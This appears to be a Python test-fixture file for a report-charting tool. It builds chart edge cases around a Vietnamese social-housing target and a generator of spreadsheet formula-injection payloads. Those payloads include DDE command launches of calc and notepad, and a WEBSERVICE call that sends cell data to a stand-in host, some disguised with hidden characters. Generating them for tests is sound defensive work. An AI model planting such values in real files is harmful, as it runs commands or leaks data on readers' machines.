"""Charts of every shape that reports may take, and texts that a spreadsheet might calculate."""

from __future__ import annotations

import random
from datetime import date, timedelta
from decimal import Decimal

from corpus.plan import Comparator
from handlers.papers import Chart, Point

END = date(2030, 12, 31)
HOUSING = "Nhà ở xã hội cho người thu nhập thấp, công nhân khu công nghiệp – toàn tỉnh"


def on(day: str, value: str, *, provisional: bool = False) -> Point:
    return Point(date.fromisoformat(day), Decimal(value), provisional)


FIVE = (
    on("2025-06-30", "280"),
    on("2025-12-31", "640"),
    on("2026-03-31", "815"),
    on("2026-06-30", "1020"),
    on("2026-09-30", "1250", provisional=True),
)
PATH = tuple(
    on(f"{year}-12-31", value) for year, value in zip(range(2025, 2031), ("600", "1400", "2000", "2600", "3200", "3700"), strict=True)
)
NOTES = ("Nguồn: BC 512/BC-SXD ngày 05/10/2026 của Sở Xây dựng; mục tiêu theo Kế hoạch 743/KH-UBND.", "Lập ngày 27/11/2026.")


def chart(
    *points: Point,
    title: str = HOUSING,
    measure: str = "căn hộ",
    comparator: Comparator = Comparator.AT_LEAST,
    goal: str = "3700",
    goal_on: date | None = END,
    path: tuple[Point, ...] = (),
    notes: tuple[str, ...] = (),
) -> Chart:
    return Chart(title, measure, comparator, Decimal(goal), goal_on, points, path, notes)


EXAMPLE = chart(*FIVE, notes=NOTES)
SHAPES = {
    "five points": EXAMPLE,
    "with a path": chart(*FIVE, path=PATH, notes=NOTES),
    "below is good": chart(on("2025-12-31", "19.25"), on("2026-06-30", "18.1"), measure="%", comparator=Comparator.LESS_THAN, goal="15"),
    "about": chart(on("2025-12-31", "31"), on("2026-06-30", "34"), measure="m2 sàn/người", comparator=Comparator.ABOUT, goal="35.4"),
    "exactly": chart(on("2025-12-31", "99.5"), measure="%", comparator=Comparator.EXACTLY, goal="100"),
    "one point": chart(on("2026-09-30", "1250")),
    "no point": chart(),
    "no point and no day": chart(goal_on=None),
    "no goal date": chart(*FIVE, goal_on=None),
    "the goal's day is past": chart(*FIVE, goal_on=date(2020, 6, 30)),
    "equal days": chart(on("2026-06-30", "20"), on("2026-06-30", "24"), on("2026-06-30", "22", provisional=True)),
    "all the same": chart(on("2025-12-31", "95"), on("2026-06-30", "95"), goal="95", measure="%"),
    "nothing but nought": chart(on("2025-12-31", "0"), on("2026-06-30", "0"), goal="0", measure="vụ", comparator=Comparator.AT_MOST),
    "negative": chart(on("2025-12-31", "-3.5"), on("2026-06-30", "-1"), measure="%", goal="2.5"),
    "all below nought": chart(on("2025-12-31", "-3.5"), on("2026-06-30", "-1"), goal="-0.5", comparator=Comparator.AT_MOST),
    "two hundred": chart(
        *(Point(date(2025, 1, 1) + timedelta(days=3 * at), Decimal(1000 + 17 * at + at * at * 37 % 211), at % 9 == 0) for at in range(200)),
        goal="5000",
        path=PATH,
    ),
    "huge": chart(on("2025-12-31", "1234567890123"), on("2026-06-30", "2234567890123"), measure="đồng", goal="9500000000000"),
    "tiny": chart(on("2025-12-31", "0.00008"), on("2026-06-30", "0.0000512"), comparator=Comparator.AT_MOST, goal="0.00005"),
    "beyond all measure": chart(on("0001-01-01", "1E-60"), on("9999-12-31", "-1E+61"), goal="1E+60", goal_on=date.max),
    "the goal far above": chart(on("2025-12-31", "1"), on("2026-06-30", "3"), on("2026-09-30", "12"), goal="1000000"),
    "long words": chart(*FIVE, title="tỷ lệ hộ gia đình nông thôn " * 40, measure="hộ dùng nước sạch theo quy chuẩn " * 8, notes=NOTES * 9),
    "no spaces": chart(*FIVE, title="x" * 900),
    "nothing written": chart(*FIVE, title="", measure=""),
    "signs of formulas": chart(*FIVE, title="$x^2$ giá \\frac{1} $ 5", measure="$\\undefined$", notes=("_$%&#{}",)),
    "letters of others": chart(*FIVE, title="日本 \U0001f600 a\u0301 \x00\x07\ud800 \u202e אב \r\n\t", notes=("क्षि\u200d",)),
}


def payloads(count: int, seed: int = 4) -> list[str]:
    """What people type into a note to have it calculated on somebody else's machine, in a thousand disguises."""
    dice = random.Random(seed)
    before = ("", "", "", " ", "  ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x1f=")
    signs = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "@@", "-+")
    bodies = (
        "1+1",
        "A1",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x.example";"xem")',
        'WEBSERVICE("http://x.example/"&A1)',
        'DDE("cmd";"/C calc";"x")',
        'IMPORTXML("http://x.example";"//a")',
        "2+5+cmd|' /C notepad'!A0",
        "12.5",
        "",
        "nhà ở",
        '";=1+1;"',
        ",=1+1",
        "\n=1+1",
        "{=1+1}",
    )
    errors = ("#N/A", "#REF!", "#NAME?", "#DIV/0!", "TRUE", "1E5", "00123", "1/2", "_x003D_1+1")
    found = [*errors, *(sign + body for sign in signs for body in bodies)]
    while len(found) < count:
        found.append(dice.choice(before) + dice.choice(signs) + dice.choice(bodies) + str(dice.randrange(1000)))
    return found[:count]
